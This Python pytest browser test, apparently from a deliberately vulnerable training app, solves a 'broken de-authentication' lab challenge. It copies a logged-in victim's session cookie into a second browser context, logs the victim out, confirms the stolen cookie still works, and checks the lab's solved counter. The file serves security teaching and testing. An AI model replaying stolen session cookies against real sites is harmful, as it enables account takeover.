"""Solve replay-after-logout by hand in Chromium: copy the cookie into a second browser."""

from __future__ import annotations

import pytest

from marketplace.exploits.browser import launched

from .helpers import PASSWORD

LESSON = "broken-deauthentication"
STEP_MS = 10_000  # a second xdist worker and its browser share the two cores


@pytest.fixture
def backend():
    return "sqlite"  # the same detector runs on PostgreSQL in the by-hand HTTP tests


@pytest.mark.browser
def test_replay_after_logout_in_chromium(live_target, set_stage):
    set_stage(LESSON, "client-cookie")
    base = live_target.base_url.rstrip("/")
    with launched() as chromium:
        contexts = []
        try:
            victim = chromium.new_context()
            contexts.append(victim)
            victim.set_default_timeout(STEP_MS)
            page = victim.new_page()
            page.goto(base + "/user/signup")
            page.fill("input[name=full_name]", "Vic Tim")
            page.fill("input[name=email]", "vic@example.com")
            page.fill("input[name=password]", PASSWORD)
            page.click("main button[type=submit], main input[type=submit]")
            page.fill("input[name=email]", "vic@example.com")
            page.fill("input[name=password]", PASSWORD)
            page.click("main button[type=submit], main input[type=submit]")
            assert "Vic Tim" in page.content()
            copied = [c for c in victim.cookies() if c["name"] == "session"]
            assert copied, "no session cookie to copy"

            thief = chromium.new_context()
            contexts.append(thief)
            thief.set_default_timeout(STEP_MS)
            thief.add_cookies(copied)

            page.goto(base + "/user/logout")
            page.click("main button[type=submit], main input[type=submit]")
            assert "You are logged out." in page.content()

            stolen = thief.new_page()
            stolen.goto(base + "/user/welcome")
            assert "Vic Tim" in stolen.content()  # the replay is accepted

            stolen.goto(base + "/listings/")
            notice = stolen.locator(".challenge-solved")
            assert notice.count() == 1
            assert "Challenge solved: Broken de-authentication" in notice.inner_text()

            stolen.goto(base + "/lab/")
            row = stolen.locator(f"tr:has(a[href='/lab/{LESSON}#challenges'])")
            assert "1 of 3" in row.locator(".solved-count").inner_text()
        finally:
            for context in contexts:
                context.close()
